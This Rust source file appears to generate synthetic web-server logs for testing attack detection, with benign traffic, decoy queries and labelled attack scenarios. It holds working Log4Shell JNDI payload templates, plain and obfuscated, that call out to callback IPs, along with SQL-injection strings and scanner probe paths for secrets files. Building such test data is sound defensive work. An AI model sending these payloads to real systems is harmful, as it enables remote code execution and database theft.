//! What a public web server sees: visitors loading pages and their assets, API clients,
//! health checks, search-engine crawlers, vulnerability scanners probing for files, and
//! the injected Log4Shell and SQL-injection requests.

use crate::rng::Rng;
use crate::text::Text;
use crate::time::{MILLI, SECOND};

/// One request as the server logs it.
#[derive(Clone, Copy, Debug)]
pub struct Request {
    pub time: i64,
    pub client: [u8; 4],
    pub method: &'static str,
    /// Path (URL-encoded as sent).
    pub path: Text,
    /// Query string without `?`, empty for none.
    pub query: Text,
    pub status: u16,
    pub bytes: u64,
    pub referer: Text,
    pub agent: Text,
    /// An `X-Api-Version` header, when sent (logged by the nginx JSON format).
    pub api_version: Text,
    pub millis: u32,
    pub scenario: u32,
}

const BROWSERS: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.102 Mobile Safari/537.36",
];

const CRAWLERS: [&str; 3] = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
];

const SCANNERS: [&str; 4] = [
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.111 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "python-requests/2.31.0",
];

const PAGES: [&str; 12] = [
    "/",
    "/index.php",
    "/products",
    "/products/{n100-999}",
    "/blog/2026/11/{w}-{w}",
    "/about",
    "/contact",
    "/account/login",
    "/cart",
    "/search",
    "/category/{=shoes|bags|outdoor|sale|select-series}",
    "/help/{w}",
];

const ASSETS: [&str; 6] = [
    "/static/css/main.{x8}.css",
    "/static/js/app.{x8}.js",
    "/static/js/vendor.{x8}.js",
    "/images/{w}-{d3}.{=jpg|png|webp}",
    "/fonts/inter-{=regular|bold}.woff2",
    "/favicon.ico",
];

/// Benign query strings, including words a naive SQL-injection pattern trips on.
const QUERIES: [&str; 8] = [
    "q={w}+{w}",
    "q=union+station+parking",
    "q=select+comfort+mattress",
    "sort=price&order=desc",
    "page={n2-20}",
    "utm_source=newsletter&utm_medium=email&utm_campaign=nov-{d2}",
    "id={n100-999}",
    "q=drop+ship+orders+or+returns",
];

const PROBES: [&str; 10] = [
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/phpmyadmin/index.php",
    "/admin/config.php",
    "/server-status",
    "/actuator/env",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale",
    "/owa/auth/logon.aspx",
];

fn visitor(rng: &mut Rng) -> [u8; 4] {
    let first = *rng.pick(&[73u8, 81, 86, 92, 104, 151, 176, 188, 212]);
    [
        first,
        rng.range(1, 254) as u8,
        rng.range(1, 254) as u8,
        rng.range(1, 254) as u8,
    ]
}

fn request(time: i64, client: [u8; 4], agent: Text, rng: &mut Rng) -> Request {
    Request {
        time,
        client,
        method: "GET",
        path: Text::lit("/"),
        query: Text::lit(""),
        status: 200,
        bytes: rng.range(300, 60_000),
        referer: Text::lit(""),
        agent,
        api_version: Text::lit(""),
        millis: rng.range(2, 180) as u32,
        scenario: crate::model::BENIGN,
    }
}

/// One benign episode starting at `t`; its requests are pushed into `out`.
pub fn episode(rng: &mut Rng, t: i64, site: &'static str, out: &mut Vec<Request>) {
    match rng.below(100) {
        0..=69 => visit(rng, t, site, out),
        70..=79 => api(rng, t, out),
        80..=87 => health(rng, t, out),
        88..=94 => crawl(rng, t, out),
        _ => scan(rng, t, out),
    }
}

/// A person loads a page and its assets, then maybe another page.
fn visit(rng: &mut Rng, mut t: i64, site: &'static str, out: &mut Vec<Request>) {
    let client = visitor(rng);
    let agent = Text::lit(rng.choose(&BROWSERS));
    for page in 0..rng.range(1, 3) {
        let mut r = request(t, client, agent, rng);
        r.path = Text::tpl(rng.choose(&PAGES), "", rng.next_u64());
        if rng.chance(0.3) {
            r.query = Text::tpl(rng.choose(&QUERIES), "", rng.next_u64());
        }
        if page > 0 || rng.chance(0.4) {
            r.referer = Text::tpl("https://{a}/", site, 0);
        }
        if rng.chance(0.04) {
            r.status = 404;
            r.bytes = 1_245;
        }
        out.push(r);
        for _ in 0..rng.range(2, 7) {
            t += rng.range(5, 400) as i64 * MILLI;
            let mut asset = request(t, client, agent, rng);
            asset.path = Text::tpl(rng.choose(&ASSETS), "", rng.next_u64());
            asset.referer = Text::tpl("https://{a}/", site, 0);
            if rng.chance(0.3) {
                asset.status = 304;
                asset.bytes = 0;
            }
            out.push(asset);
        }
        t += rng.range(3, 90) as i64 * SECOND;
    }
}

/// An application's API client; now and then a front-end bug sends an unexpanded
/// template (`${userId}`), which a naive `${` pattern would flag.
fn api(rng: &mut Rng, mut t: i64, out: &mut Vec<Request>) {
    let client = [10, 20, rng.below(4) as u8, rng.range(4, 250) as u8];
    for _ in 0..rng.range(1, 5) {
        let mut r = request(t, client, Text::lit("okhttp/4.12.0"), rng);
        r.method = *rng.pick(&["GET", "GET", "POST", "PUT"]);
        r.path = if rng.chance(0.05) {
            Text::lit("/api/v1/users/%24%7BuserId%7D/orders")
        } else {
            Text::tpl(
                "/api/v1/{=orders|users|carts|invoices}/{n1000-99999}",
                "",
                rng.next_u64(),
            )
        };
        if rng.chance(0.3) {
            r.api_version = Text::lit("2024-10-01");
        }
        out.push(r);
        t += rng.range(50, 5_000) as i64 * MILLI;
    }
}

fn health(rng: &mut Rng, t: i64, out: &mut Vec<Request>) {
    let mut r = request(t, [10, 10, 0, 5], Text::lit("ELB-HealthChecker/2.0"), rng);
    r.path = Text::lit("/health");
    r.bytes = 2;
    out.push(r);
}

fn crawl(rng: &mut Rng, mut t: i64, out: &mut Vec<Request>) {
    let agent = Text::lit(rng.choose(&CRAWLERS));
    let client = [66, 249, rng.range(64, 95) as u8, rng.range(1, 254) as u8];
    for _ in 0..rng.range(1, 6) {
        let mut r = request(t, client, agent, rng);
        r.path = Text::tpl(rng.choose(&PAGES), "", rng.next_u64());
        out.push(r);
        t += rng.range(1, 30) as i64 * SECOND;
    }
}

/// A vulnerability scanner probing for well-known files: mostly 404s.
fn scan(rng: &mut Rng, mut t: i64, out: &mut Vec<Request>) {
    let agent = Text::lit(rng.choose(&SCANNERS));
    let client = visitor(rng);
    for _ in 0..rng.range(3, 10) {
        let mut r = request(t, client, agent, rng);
        r.path = Text::lit(rng.choose(&PROBES));
        r.status = if rng.chance(0.9) { 404 } else { 403 };
        r.bytes = 1_245;
        out.push(r);
        t += rng.range(20, 900) as i64 * MILLI;
    }
}

/// Payload templates (literal braces doubled for [`Text`]).
const JNDI: [&str; 8] = [
    "${{jndi:ldap://{a}:1389/Exploit}}",
    "${{jndi:ldap://{a}:1389/a}}",
    "${{jndi:rmi://{a}:1099/{x8}}}",
    "${{jndi:dns://{a}/{x8}}}",
    "${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-l}}${{::-d}}${{::-a}}${{::-p}}://{a}:1389/{x6}}}",
    "${{${{lower:j}}ndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{a}:1389/o}}",
    "${{${{env:BARFOO:-j}}ndi${{env:BARFOO:-:}}${{env:BARFOO:-l}}dap${{env:BARFOO:-:}}//{a}:1389/{x6}}}",
    "${{jndi:${{lower:l}}${{lower:d}}ap://{a}:1389/Basic/Command/Base64/{x16}}}",
];

/// Where the payloads point.
const CALLBACKS: [&str; 3] = ["45.137.21.9", "185.220.101.47", "194.26.29.113"];

/// A Log4Shell attempt: JNDI lookups in the User-Agent, the Referer, an API header, the
/// query string (URL-encoded) or the path, plain and obfuscated.
pub fn log4shell(rng: &mut Rng, mut t: i64, scenario: u32, out: &mut Vec<Request>) -> String {
    let client = visitor(rng);
    let callback = *rng.pick(&CALLBACKS);
    let mut places = Vec::new();
    for _ in 0..rng.range(1, 4) {
        let payload = Text::tpl(rng.choose(&JNDI), callback, rng.next_u64());
        let mut r = request(t, client, Text::lit(BROWSERS[0]), rng);
        r.scenario = scenario;
        r.status = *rng.pick(&[200u16, 400, 404]);
        let place = match rng.below(5) {
            0 => {
                r.agent = payload;
                "User-Agent"
            }
            1 => {
                r.referer = payload;
                "Referer"
            }
            2 => {
                r.api_version = payload;
                r.agent = payload;
                "X-Api-Version and User-Agent"
            }
            3 => {
                r.path = Text::lit("/");
                r.query = Text::tpl(
                    "x=%24%7Bjndi%3Aldap%3A%2F%2F{a}%3A1389%2F{x6}%7D",
                    callback,
                    rng.next_u64(),
                );
                "query string (URL-encoded)"
            }
            _ => {
                r.path = Text::tpl(
                    "/$%7Bjndi:ldap://{a}:1389/{x6}%7D",
                    callback,
                    rng.next_u64(),
                );
                "path"
            }
        };
        places.push(place);
        out.push(r);
        t += rng.range(1, 20) as i64 * SECOND;
    }
    format!("JNDI lookups to {callback} in: {}", places.join("; "))
}

const SQLI: [&str; 8] = [
    "id=1'+OR+'1'='1",
    "id=1%27%20OR%20%271%27%3D%271",
    "id=1+UNION+SELECT+username,password+FROM+users--",
    "id=-1+UNION+ALL+SELECT+NULL,NULL,CONCAT(0x71766a7071,version(),0x7170707871)--+-",
    "id=1;WAITFOR+DELAY+'0:0:5'--",
    "id=1+AND+SLEEP(5)",
    "cat=1'+AND+extractvalue(1,concat(0x7e,(SELECT+database())))--+-",
    "q=test%27%29%3B%20DROP%20TABLE%20orders%3B--",
];

/// SQL injection probes in query strings, by hand (curl) or by sqlmap.
pub fn sql_injection(rng: &mut Rng, mut t: i64, scenario: u32, out: &mut Vec<Request>) -> String {
    let client = visitor(rng);
    let agent = if rng.chance(0.5) {
        "sqlmap/1.8.11#stable (https://sqlmap.org)"
    } else {
        "curl/8.4.0"
    };
    let count = rng.range(2, 5);
    for _ in 0..count {
        let mut r = request(t, client, Text::lit(agent), rng);
        r.scenario = scenario;
        r.path = Text::tpl(
            "/{=products.php|item.php|search|catalog/view.php|index.php}",
            "",
            rng.next_u64(),
        );
        r.query = Text::lit(rng.choose(&SQLI));
        r.status = *rng.pick(&[200u16, 500, 500, 302]);
        out.push(r);
        t += rng.range(200, 8_000) as i64 * MILLI;
    }
    format!("{count} injected query strings from {agent}")
}
